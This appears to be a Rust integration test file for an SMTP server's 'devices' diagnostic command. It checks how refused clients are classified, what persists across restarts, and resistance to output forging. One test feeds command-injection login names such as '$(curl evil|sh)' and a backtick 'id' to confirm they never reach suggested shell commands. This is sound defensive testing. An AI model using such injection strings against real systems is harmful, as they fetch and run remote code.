//! `gatepost devices` with the real binary: what is found wrong with real clients, what is kept over a
//! restart, a kill and a flood.
//!
//! Every client has a loopback address of its own, and is looked up by it.

#![allow(clippy::unwrap_used, clippy::indexing_slicing)]

mod support;

use std::fs;
use std::io::Write as _;
use std::net::Ipv4Addr;
use std::process::{Command, Stdio};

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use support::source::connect_from;
use support::{Client, Server, TCP_PORT, TLS_PORT, data, has_program, own_v4};

/// Logins without TLS, and a rule for every refusal.
const RULES: &str = "[port:tcp]\nname_and_password = yes\n[auth]\nplaintext_from = 127.0.0.0/8\n\
                     [limits]\nrecipients = 1\nmessage_size = 100K\n[relay]\nenforce_for = all\n\
                     [senders]\ndeny = bad.example\n[recipients]\ndeny = root@here.example\n\
                     [aliases]\nfile = aliases\n";

/// Waits until the last session of this client is over.
fn wait_for_end(server: &mut Server, client: Ipv4Addr) {
    let sid = sid_of(server, client);
    server.wait_for_log(&format!("event=session_ended sid={sid}"));
}

/// The id of the session, which its opening or its end names.
fn sid_of(server: &mut Server, client: Ipv4Addr) -> String {
    let line = server.wait_for_log(&format!(" client={client}:"));
    let sid = line.split(" sid=").nth(1).unwrap();
    sid.split(' ').next().unwrap().to_owned()
}

/// The device as JSON; its end has to be waited for before.
fn device(server: &Server, client: Ipv4Addr) -> String {
    let said = server.command(&["devices", &client.to_string(), "--json"]);
    assert_eq!(
        said.code,
        Some(0),
        "{}\n{}",
        said.complaint,
        server.log_text()
    );
    said.output
}

fn has(json: &str, key: &str, value: &str) -> bool {
    json.contains(&format!("\"{key}\":{value}"))
}

/// Plays what a client says, each line with the reply it gets; says nothing at the end.
fn play(server: &Server, from: Ipv4Addr, lines: &[(&str, &str)]) {
    let mut client = Client::greeted_from(from, server.tcp());
    for (line, reply) in lines {
        client.send(line.as_bytes());
        if !reply.is_empty() {
            client.expect(reply);
        }
    }
}

const EHLO: (&str, &str) = ("EHLO scanner.example\r\n", "250");
const MAIL: (&str, &str) = ("MAIL FROM:<s@there.example>\r\n", "250");
const RCPT: (&str, &str) = ("RCPT TO:<alice@here.example>\r\n", "250");
const DATA: (&str, &str) = ("DATA\r\n", "354");
const QUIT: (&str, &str) = ("QUIT\r\n", "221");
/// alice, wonderland; then a wrong one.
const GOOD: (&str, &str) = ("AUTH PLAIN AGFsaWNlAHdvbmRlcmxhbmQ=\r\n", "235");
const WRONG: (&str, &str) = ("AUTH PLAIN AGFsaWNlAHdyb25n\r\n", "535");

/// A dialogue, the kind it comes to, and the reply that is told.
type Row<'a> = (&'a [(&'a str, &'a str)], &'a str, &'a str);

fn hold(server: &mut Server, rows: &[Row]) {
    for (lines, kind, reply) in rows {
        let from = own_v4();
        play(server, from, lines);
        wait_for_end(server, from);
        let json = device(server, from);
        match *kind {
            "" => assert!(has(&json, "error", "null"), "{lines:?}: {json}"),
            kind => assert!(has(&json, "kind", &format!("\"{kind}\"")), "{kind}: {json}"),
        }
        if !reply.is_empty() {
            assert!(
                json.contains(&format!("\"reply\":\"{reply}")),
                "{kind}: {json}"
            );
        }
    }
}

#[test]
fn what_is_refused_is_told_in_plain_words() {
    let mut server = Server::start(RULES);
    let long = format!("EHLO {}\r\n", "x".repeat(5000));
    hold(&mut server, WHAT_IS_REFUSED);
    hold(
        &mut server,
        &[(&[(&long, "500"), QUIT], "line-too-long", "500 5.5.2")],
    );
    let listed = server.command(&["devices"]);
    assert_eq!(listed.code, Some(0));
    for line in listed.output.lines() {
        assert!(line.len() <= 100, "{line}");
    }
    assert!(listed.output.starts_with("ADDRESS "), "{}", listed.output);
    let json = server.command(&["devices", "--json"]).output;
    assert!(json.starts_with("{\"devices\":[{") && json.ends_with("],\"more\":0}\n"));
}

const WHAT_IS_REFUSED: &[Row] = &[
    (
        &[EHLO, MAIL, RCPT, DATA, ("hi\r\n.\r\n", "250"), QUIT],
        "",
        "",
    ),
    (&[EHLO, GOOD, QUIT], "", ""),
    (&[EHLO, WRONG, QUIT], "login-failed", "535 5.7.8"),
    (
        &[EHLO, WRONG, ("MAIL FROM:<a@b.example>\r\n", "530"), QUIT],
        "login-failed",
        "535 5.7.8",
    ),
    (
        &[EHLO, ("AUTH CRAM-MD5\r\n", "504"), MAIL, QUIT],
        "mechanism",
        "504 5.5.4",
    ),
    (
        &[EHLO, GOOD, ("MAIL FROM:<s@there.example>\r\n", "554"), QUIT],
        "sender-not-owner",
        "554 5.7.1",
    ),
    (
        &[EHLO, ("MAIL FROM:<a@bad.example>\r\n", "554"), QUIT],
        "sender-denied",
        "554 5.7.1",
    ),
    (
        &[
            EHLO,
            MAIL,
            ("RCPT TO:<nobody@here.example>\r\n", "550"),
            ("DATA\r\n", "503"),
        ],
        "recipient-unknown",
        "550 5.1.1",
    ),
    (
        &[EHLO, MAIL, ("RCPT TO:<root@here.example>\r\n", "554"), QUIT],
        "recipient-denied",
        "554 5.7.1",
    ),
    (
        &[EHLO, MAIL, ("RCPT TO:<x@out.example>\r\n", "554"), QUIT],
        "relay-denied",
        "554 5.7.1",
    ),
    // The login is what has to be mended.
    (
        &[
            EHLO,
            ("AUTH NTLM\r\n", "504"),
            MAIL,
            ("RCPT TO:<x@out.example>\r\n", "554"),
            QUIT,
        ],
        "mechanism",
        "504 5.5.4",
    ),
    (
        &[
            EHLO,
            MAIL,
            RCPT,
            ("RCPT TO:<bob@here.example>\r\n", "452"),
            QUIT,
        ],
        "too-many-recipients",
        "452",
    ),
    (
        &[
            EHLO,
            ("MAIL FROM:<a@b.example> SIZE=999999\r\n", "552"),
            QUIT,
        ],
        "too-large",
        "552 5.3.4",
    ),
    (
        &[EHLO, MAIL, RCPT, DATA, ("a\nb\r\n.\r\n", "550"), QUIT],
        "bare-line-ends",
        "550 5.6.0",
    ),
    (
        &[EHLO, MAIL, RCPT, DATA, ("half of", "")],
        "cut-in-data",
        "",
    ),
    (
        &[EHLO, ("MAIL FROM:<scanner>\r\n", "501"), QUIT],
        "bad-address",
        "501 5.1.7",
    ),
    (
        &[EHLO, ("MAIL FROM:<\u{e9}@b.example>\r\n", "553"), QUIT],
        "needs-smtputf8",
        "553 5.6.7",
    ),
    (
        &[EHLO, ("MAIL FROM:<a@b.example> RET=HDRS\r\n", "555"), QUIT],
        "bad-parameter",
        "555",
    ),
    (&[EHLO, ("DATA\r\n", "503"), QUIT], "bad-sequence", "503"),
    (&[("FOO\r\n", "500"), QUIT], "bad-command", "500"),
    (
        &[("EHLO a\nMAIL\r\n", "500"), QUIT],
        "bare-line-end-in-command",
        "500 5.5.2",
    ),
    (&[("GET / HTTP/1.1\r\n", "")], "other-protocol", ""),
    (&[("\x16\x03\x01", "")], "tls-on-plain-port", ""),
    (&[EHLO, QUIT], "left-after-hello", ""),
    (&[EHLO, MAIL, QUIT], "left-unfinished", ""),
    (&[], "silent", ""),
];

#[test]
fn a_port_without_logins_or_tls_says_so() {
    let off = "[extensions]\nstarttls = disabled\n[port:tls]\nname_and_password = yes\n";
    let starttls = ("STARTTLS\r\n", "502");
    let auth = ("AUTH LOGIN\r\n", "502");
    hold(
        &mut Server::start(off),
        &[
            (&[EHLO, starttls, QUIT], "starttls-off", "502"),
            (&[EHLO, auth, QUIT], "auth-off", "502 5.5.1"),
        ],
    );
    let mail = ("MAIL FROM:<a@b.example>\r\n", "530");
    hold(
        &mut Server::start("[port:tcp]\nanonymous = no\nname_and_password = yes\n"),
        &[(&[EHLO, mail, QUIT], "login-required", "530 5.7.0")],
    );
}

#[test]
fn tls_that_has_to_come_first_is_told() {
    let mut server = Server::start("[extensions]\nstarttls = required\n");
    let mail = ("MAIL FROM:<a@b.example>\r\n", "530");
    hold(
        &mut server,
        &[(&[EHLO, mail, QUIT], "starttls-required", "530 5.7.0")],
    );
    let mut server = Server::start(
        "[port:tcp]\nname_and_password = yes\n[auth]\nplaintext_from = 10.0.0.0/8\n\
         [server_access]\nenforce = yes\ndeny = alice\n",
    );
    let auth = ("AUTH LOGIN\r\n", "538");
    hold(
        &mut server,
        &[(&[EHLO, auth, QUIT], "auth-needs-tls", "538 5.7.11")],
    );
}

#[test]
fn a_user_who_is_kept_out_is_told_from_a_wrong_password() {
    let mut server = Server::start(
        "[port:tcp]\nname_and_password = yes\n[server_access]\nenforce = yes\ndeny = alice\n",
    );
    let right = ("AUTH PLAIN AGFsaWNlAHdvbmRlcmxhbmQ=\r\n", "535");
    hold(
        &mut server,
        &[
            (&[EHLO, right, QUIT], "login-denied", "535 5.7.8"),
            (&[EHLO, WRONG, QUIT], "login-failed", "535 5.7.8"),
        ],
    );
}

#[test]
fn clients_that_may_not_connect_are_told_apart() {
    let (denied, listed, crowd) = (own_v4(), own_v4(), own_v4());
    let mut server = Server::start(&format!(
        "[connections]\ndeny = {denied}\nsessions_max_per_address = 1\n\
         [blacklist]\nhosts = {listed}\n[relay]\nenforce_for = all\n"
    ));
    for (from, kind) in [(denied, "connection-denied"), (listed, "blacklisted")] {
        let mut client = Client::over(connect_from(from, server.tcp()));
        client.expect("554 ");
        drop(client);
        wait_for_end(&mut server, from);
        let json = device(&server, from);
        assert!(has(&json, "kind", &format!("\"{kind}\"")), "{json}");
        assert!(json.contains("\"settings\":[{\"do\":\"take\""), "{json}");
    }
    let first = Client::greeted_from(crowd, server.tcp());
    let mut second = Client::over(connect_from(crowd, server.tcp()));
    second.expect("421 4.7.0");
    let json = device(&server, crowd);
    assert!(has(&json, "kind", "\"too-many-sessions\""), "{json}");
    assert!(json.contains("\"value\":\"2\""), "{json}");
    drop(first);
}

#[test]
fn silence_is_told_by_where_it_is() {
    let mut server = Server::start("[limits]\ncommand_timeout = 1s\ndata_timeout = 1s\n");
    let (tls, data) = (own_v4(), own_v4());
    // Says nothing, as a device does that waits for a greeting; and stalls in the content.
    let waits = connect_from(tls, server.tls());
    let mut stalls = Client::greeted_from(data, server.tcp());
    for (line, reply) in [EHLO, MAIL, RCPT, DATA] {
        stalls.send(line.as_bytes());
        stalls.expect(reply);
    }
    for (from, kind) in [(tls, "silent-on-tls-port"), (data, "stalled-in-data")] {
        wait_for_end(&mut server, from);
        let json = device(&server, from);
        assert!(has(&json, "kind", &format!("\"{kind}\"")), "{json}");
    }
    drop(waits);
}

/// Runs openssl's client from an address, with nothing to say.
fn openssl(server: &Server, from: Ipv4Addr, port: u16, options: &[&str]) {
    let mut child = Command::new("openssl")
        .args(["s_client", "-bind", &format!("{from}:0")])
        .args(["-connect", &format!("{}:{port}", server.address)])
        .args(options)
        .stdin(Stdio::piped())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    drop(child.stdin.take());
    child.wait().unwrap();
}

#[test]
fn tls_that_fails_is_told_with_the_real_openssl() {
    if !has_program("openssl") {
        return;
    }
    let mut server = Server::start("[port:tls]\nname_and_password = yes\n");
    let old = ["-tls1", "-cipher", "ALL:@SECLEVEL=0"];
    let rows: &[(u16, &[&str], &str)] = &[
        (TLS_PORT, &old, "tls-version"),
        (
            TLS_PORT,
            &["-tls1_1", "-cipher", "ALL:@SECLEVEL=0"],
            "tls-version",
        ),
        (
            TLS_PORT,
            &["-tls1_2", "-cipher", "AES128-SHA:@SECLEVEL=0"],
            "tls-cipher",
        ),
        (TLS_PORT, &["-verify_return_error"], "tls-authority"),
        (
            TCP_PORT,
            &["-starttls", "smtp", "-verify_return_error"],
            "tls-authority",
        ),
        (TCP_PORT, &[], "tls-on-plain-port"),
    ];
    for (port, options, kind) in rows {
        let from = own_v4();
        openssl(&server, from, *port, options);
        wait_for_end(&mut server, from);
        let json = device(&server, from);
        assert!(
            has(&json, "kind", &format!("\"{kind}\"")),
            "{options:?}: {json}"
        );
    }
    let from = own_v4();
    openssl(&server, from, TLS_PORT, &old);
    wait_for_end(&mut server, from);
    assert!(device(&server, from).contains("offers only TLS 1.0"));
    let plain = own_v4();
    let mut stream = connect_from(plain, server.tls());
    stream.write_all(b"EHLO scanner.example\r\n").unwrap();
    wait_for_end(&mut server, plain);
    assert!(has(
        &device(&server, plain),
        "kind",
        "\"plain-on-tls-port\""
    ));
}

/// What is advised for a device of TLS 1.0 is set, and then it logs in and sends.
#[test]
fn what_is_advised_helps() {
    if !has_program("openssl") {
        return;
    }
    let mut server = Server::start("[port:tls]\nname_and_password = yes\n");
    let from = own_v4();
    openssl(
        &server,
        from,
        TLS_PORT,
        &["-tls1", "-cipher", "ALL:@SECLEVEL=0"],
    );
    wait_for_end(&mut server, from);
    let text = server.command(&["devices", &from.to_string()]).output;
    let words: Vec<&str> = text.split_whitespace().collect();
    let words = words.join(" ");
    let advice = format!(
        "or: set [port:tcp] name_and_password = yes; set [auth] plaintext_from = {from}; on the \
         device: no encryption, port {TCP_PORT}, and its login"
    );
    assert!(words.contains(&advice), "{text}");
    server.configure(&format!(
        "[port:tls]\nname_and_password = yes\n[port:tcp]\nname_and_password = yes\n\
         [auth]\nplaintext_from = {from}\n"
    ));
    assert_eq!(server.command(&["reload"]).code, Some(0));
    let mail = ("MAIL FROM:<alice@here.example>\r\n", "250");
    play(
        &server,
        from,
        &[EHLO, GOOD, mail, RCPT, DATA, ("hi\r\n.\r\n", "250"), QUIT],
    );
    let stranger = own_v4();
    play(&server, stranger, &[EHLO, ("AUTH LOGIN\r\n", "538"), QUIT]);
    server.wait_for_log("helo=scanner.example user=alice messages=1");
    let json = device(&server, from);
    assert!(
        has(&json, "state", "\"ok\"") && has(&json, "mended", "true"),
        "{json}"
    );
    assert!(
        has(&json, "mechanism", "\"PLAIN\"") && has(&json, "user", "\"alice\""),
        "{json}"
    );
}

#[test]
fn what_is_known_is_kept_over_a_restart_and_read_without_a_service() {
    let mut server = Server::start(RULES);
    let (first, second) = (own_v4(), own_v4());
    for from in [first, second] {
        play(&server, from, &[EHLO, WRONG, QUIT]);
        wait_for_end(&mut server, from);
    }
    let before = device(&server, first);
    server.terminate();
    assert_eq!(server.wait(), Some(0));
    assert_eq!(device(&server, first), before);
    assert_eq!(
        server
            .command(&["devices", "forget", &first.to_string()])
            .code,
        Some(69)
    );
    server.restart();
    assert_eq!(device(&server, first), before);
    // What the operator has forgotten is written at once, and survives a kill.
    let said = server.command(&["devices", "forget", &first.to_string()]);
    assert_eq!(
        (said.code, said.output),
        (Some(0), format!("{first} is forgotten\n"))
    );
    server.wait_for_event("device_forgotten");
    server.kill();
    server.restart();
    assert_eq!(
        server.command(&["devices", &first.to_string()]).code,
        Some(69)
    );
    assert!(device(&server, second).contains("login-failed"));
    server.kill();
    let file = server.folder.path().join("spool/devices");
    let mut content = fs::read(&file).unwrap();
    let last = content.len() - 2;
    content[last] ^= 1;
    fs::write(&file, content).unwrap();
    assert_eq!(server.command(&["devices"]).code, Some(69));
    server.restart();
    server.wait_for_event("devices_unreadable");
    assert_eq!(
        server.command(&["devices"]).output,
        "no devices are known\n"
    );
    assert!(file.with_extension("bad").is_file());
    play(&server, second, &[EHLO, QUIT]);
}

#[test]
fn a_flood_of_strangers_pushes_out_no_device() {
    let mut server = Server::start("[server]\ndevices = 20\n");
    let sends = own_v4();
    play(
        &server,
        sends,
        &[EHLO, MAIL, RCPT, DATA, ("hi\r\n.\r\n", "250"), QUIT],
    );
    wait_for_end(&mut server, sends);
    for number in 0..400_u32 {
        let from = Ipv4Addr::from_bits(0x7fc8_0001 + number);
        drop(connect_from(from, server.tcp()));
    }
    wait_for_end(&mut server, Ipv4Addr::from_bits(0x7fc8_0001 + 399));
    let json = server.command(&["devices", "--json"]).output;
    assert_eq!(json.matches("\"address\"").count(), 12, "{json}");
    assert!(has(&device(&server, sends), "messages", "1"));
    server.configure("[server]\ndevices = 0\n");
    assert_eq!(server.command(&["reload"]).code, Some(0));
    let said = server.command(&["devices"]);
    assert_eq!(said.output, "no devices are kept: [server] devices is 0\n");
    server.terminate();
    assert_eq!(server.wait(), Some(0));
    assert!(!server.folder.path().join("spool/devices").exists());
}

#[test]
fn what_a_client_says_forges_no_line() {
    let mut server = Server::start("");
    let from = own_v4();
    let name = ("EHLO \u{202e}x\"\r\n", "250");
    let rcpt = ("RCPT TO:<\"a b\\\"\"@here.example>\r\n", "550");
    play(&server, from, &[name, MAIL, rcpt, QUIT]);
    wait_for_end(&mut server, from);
    for words in [&["devices"][..], &["devices", &from.to_string()]] {
        let text = server.command(words).output;
        let plain = |octet| matches!(octet, b'\n' | 0x20..=0x7e);
        assert!(text.bytes().all(plain), "{text:?}");
    }
    assert!(server.command(&["devices", "nonsense"]).code == Some(64));
    assert!(server.command(&["devices", "forget"]).code == Some(64));
    assert!(server.command(&["devices", "192.0.2.1"]).code == Some(69));
}

/// Python's client as scripts use it: a wrong password, then the right one.
#[test]
fn pythons_smtplib_is_told_and_mended() {
    if !has_program("python3") {
        return;
    }
    let mut server = Server::start(RULES);
    let from = own_v4();
    let script = format!(
        "import smtplib\n\
         for password in ('wrong', 'wonderland'):\n\
         \x20   s = smtplib.SMTP('{}', {TCP_PORT}, 'nas', source_address=('{from}', 0))\n\
         \x20   try:\n\
         \x20       s.login('alice', password)\n\
         \x20   except smtplib.SMTPAuthenticationError:\n\
         \x20       pass\n\
         \x20   s.quit()\n",
        server.address
    );
    let mut python = Command::new("python3");
    assert!(python.args(["-c", &script]).status().unwrap().success());
    server.wait_for_log("helo=nas user=alice");
    let json = device(&server, from);
    assert!(
        has(&json, "kind", "\"login-failed\"") && has(&json, "mended", "true"),
        "{json}"
    );
    assert!(
        !json.contains("wonderland") && !json.contains("wrong\""),
        "{json}"
    );
    assert!(data("users").is_file());
}

#[test]
fn a_strangers_login_is_in_no_command() {
    let mut server = Server::start(RULES);
    let names = [
        "$(curl evil|sh)",
        "`id`",
        "-rf",
        "a;b",
        "x\u{1b}[2Jy",
        "Root",
    ];
    for name in names {
        let from = own_v4();
        let payload = STANDARD.encode(format!("\0{name}\0wrong"));
        let auth = format!("AUTH PLAIN {payload}\r\n");
        play(&server, from, &[EHLO, (&auth, "535"), QUIT]);
        wait_for_end(&mut server, from);
        let json = device(&server, from);
        let (_, advice) = json.split_once("\"advice\":").unwrap();
        let told = server.command(&["devices", &from.to_string()]).output;
        assert!(has(&json, "kind", "\"login-failed\""), "{json}");
        assert!(!advice.contains("gatepost passwd"), "{advice}");
        assert!(!told.contains("gatepost passwd"), "{told}");
        assert!(told.contains("if you know \""), "{told}");
        assert!(
            told.bytes().all(|o| matches!(o, b'\n' | 0x20..0x7f)),
            "{told:?}"
        );
    }
}
